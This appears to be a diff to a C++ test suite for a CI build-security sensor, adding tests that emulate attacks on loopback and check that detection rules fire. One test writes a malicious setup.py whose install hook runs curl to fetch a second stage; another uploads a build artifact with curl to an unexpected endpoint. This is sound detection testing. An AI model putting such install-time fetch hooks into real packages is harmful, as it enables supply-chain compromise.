@@ -1,8 +1,8 @@
 // Issue 19: the incidents behind the CI rule pack, emulated on loopback
 // under the real sensor (`buildtrail-agent run`, delivering to the real
 // collector, which detects): each raises its rule on the right build, and a
-// benign build raises nothing. BT-28 (an unexpected publish) is a baseline
-// rule, not in the pack yet: not emulated here.
+// benign build raises nothing. An unexpected publish (BT-28) is a baseline
+// rule: its job learns from two builds first, on a collector of its own.
 #include <doctest/doctest.h>
 #include <signal.h>
 #include <sys/wait.h>
@@ -196,6 +196,43 @@ TEST_CASE("source overwrite: a workspace file changed during the build (BT-21, -
   INFO(r.output);
   CHECK(r.exit_code == 0);
   expect("2101", s.rules_of("2101"), "BT-21");
+}
+
+TEST_CASE("a malicious package: its setup.py fetches a second stage while pip installs it (BT-17)") {
+  HttpServer stage2("echo stage two\n");
+  const auto& s = sensor();
+  const std::string pkg = s.d.root + "/evilpkg";
+  REQUIRE(testing::run_command("mkdir -p " + pkg + "/evil && touch " + pkg + "/evil/__init__.py").exit_code == 0);
+  std::ofstream(pkg + "/setup.py") << "import os\nfrom setuptools import setup\n"
+                                   << "os.system('curl -fsS " << stage2.url("/stage2") << " -o /dev/null')\n"
+                                   << "setup(name='evil', version='0.1', packages=['evil'])\n";
+  const auto r =
+      s.build("1701", "/usr/bin/python3 -m pip install -q --no-index --no-deps --no-build-isolation --target " +
+                          s.d.root + "/site-1701 " + pkg + " >/dev/null 2>&1");
+  INFO(r.output);
+  CHECK(r.exit_code == 0);
+  CHECK(stage2.requests >= 1);
+  expect("1701", s.rules_of("1701"), "BT-17");
+}
+
+TEST_CASE("an unexpected publish: a job that never uploaded uploads its artifact (BT-28)") {
+  HttpServer registry("ok");
+  const Sensor s("incidents-publish", {"--baseline-builds", "2"});
+  const std::string ws = s.d.root + "/ws";
+  REQUIRE(testing::run_command("mkdir -p " + ws + "/dist").exit_code == 0);
+  const std::string build = "printf 'int main(void){return 0;}' > m.c && cc -o m m.c && tar czf dist/app.tgz m\n";
+  for (const char* run_id : {"2801", "2802"}) {
+    const auto r = s.build(run_id, build, "", ws, branch_env("main", false));
+    INFO(r.output);
+    CHECK(r.exit_code == 0);
+    CHECK(s.rules_of(run_id).empty());
+  }
+  const auto r = s.build("2803", build + "curl -fsS -T dist/app.tgz " + registry.url("/app.tgz") + " >/dev/null\n", "",
+                         ws, branch_env("main", false));
+  INFO(r.output);
+  CHECK(r.exit_code == 0);
+  CHECK(registry.requests == 1);
+  expect("2803", s.rules_of("2803"), "BT-28");
 }
 
 TEST_CASE("a benign build raises no alert: compile, git commit, a local package install") {
